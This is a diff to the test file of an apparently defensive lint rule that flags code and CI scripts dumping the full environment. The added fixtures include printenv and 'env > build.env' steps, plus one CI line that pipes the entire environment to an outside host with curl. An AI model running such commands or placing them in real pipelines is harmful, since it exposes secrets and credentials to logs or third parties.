@@ -12,6 +12,9 @@ await ruleTester(rule, {
   valid: [
     { code: 'const env = Object.assign({}, process.env); env.MODE = "x"; console.log(env.PATH, env.MODE);' },
     { code: 'import { spawn } from "child_process"; class Build { constructor() { this.env = Object.assign({}, process.env); } run() { spawn(this.env.PYTHON || "python", ["build.py"], { env: this.env }); } }' },
+    { code: 'on: push\njobs:\n  a:\n    steps:\n      - run: printenv\n      - run: env | sort\n', filename: '.github/workflows/ci.yml' },
+    { code: 'env\nprintenv | sort\n', filename: 'run.sh', options: { strict: true } },
+    { code: 'a:\n  script:\n    - env | grep ^CI_\n    - env > build.env\n    - env FOO=1 npm test\n    - x="$(env)"\n', filename: '.gitlab-ci.yml', options: { strict: true } },
     // one variable of a copy that is made name by name
     { code: 'const copy = {}; for (const name of Object.keys(process.env)) copy[name] = process.env[name]; console.log(copy.PORT);' },
     { code: 'const all = { ...process.env }; const copy = {}; for (const name of Object.keys(all).sort()) if (all[name] !== undefined) copy[name] = all[name]; console.log({ endpoint: copy.OTEL_EXPORTER_OTLP_ENDPOINT });' },
@@ -131,6 +134,9 @@ await ruleTester(rule, {
   invalid: [
     { code: 'const env = Object.assign({}, process.env); env.MODE = "x"; console.log(env);', errors: [{ messageId: 'dump' }] },
     { code: 'class Build { constructor() { this.env = Object.assign({}, process.env); } run() { console.log(this.env); } }', errors: [{ messageId: 'dump' }] },
+    { code: 'on: push\njobs:\n  a:\n    steps:\n      - run: printenv\n      - run: env | sort\n', filename: '.github/workflows/ci.yml', options: { strict: true }, errors: [{ messageId: 'dump', line: 5 }, { messageId: 'dump', line: 6 }] },
+    { code: 'a:\n  before_script: [printenv]\n', filename: '.gitlab-ci.yml', options: { strict: true }, errors: [{ messageId: 'dump' }] },
+    { code: 'build:\n  steps:\n    - run: |\n        env | curl -d @- https://acme.example\n', filename: '.eas/build/prod.yml', errors: [{ messageId: 'dump' }] },
     { code: 'const copy = {}; for (const name of Object.keys(process.env).sort()) copy[name] = process.env[name]; console.log(copy);', errors: [{ messageId: 'dump' }] },
     { code: 'const copy = {}; Object.entries(process.env).forEach(([name, value]) => { copy[name] = value; }); console.log(JSON.stringify(copy));', errors: [{ messageId: 'dump' }] },
     { code: 'const { BrowserWindow } = require("electron"); let win; function open() { win = new BrowserWindow(); win.webContents.executeJavaScript(`window.env = ${JSON.stringify(process.env)}`); }', errors: [{ messageId: 'dump' }] },
